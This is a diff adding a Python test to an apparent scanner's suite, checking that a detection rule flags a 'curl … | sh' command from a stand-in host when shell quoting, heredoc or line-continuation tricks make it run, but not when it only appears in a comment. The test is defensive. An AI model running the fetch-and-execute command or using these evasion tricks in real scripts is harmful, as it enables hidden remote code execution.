@@ -41,6 +41,25 @@ def test_a_damaged_file_is_never_a_surprise(draw: st.DataObject) -> None:
     examined(twin.path, bytes(data))
 
 
+def test_what_a_comment_says_is_no_weapon_and_what_looks_like_one_is() -> None:
+    weapon = "curl -s https://h.example/x | sh"
+    for honest in (f"# {weapon}\npython x.py\n", f"#!/bin/bash\n# it's {weapon}\necho 'a # b'\n"):
+        assert rules_of("train.sh", honest.encode()) == set()
+    for hostile in (
+        f"# x \\\n{weapon}\n",
+        f"echo x\\\n#; {weapon}\n",
+        f"echo '\n#'; {weapon}\n",
+        f'echo "\n#"; {weapon}\n',
+        f"cat <<E\n# it's\nE\n{weapon}\n: '\n'\n",
+        f"echo ${{x#y}}; {weapon}\n",
+        f"echo $#; {weapon}\n",
+        # What cannot be read to its end has no comments.
+        f"# {weapon}\n(ls)\n",
+    ):
+        assert "executable-script-weapon" in rules_of("train.sh", hostile.encode()), hostile
+    assert "executable-script-weapon" in rules_of("run.cmd", f"# {weapon}\r\n".encode())
+
+
 @settings(max_examples=150, deadline=None)
 @given(st.text("ab \n\"'`$(){}[]<>|&;#\\=*!0/", max_size=60))
 def test_any_shell_text_is_followed_or_refused(text: str) -> None:
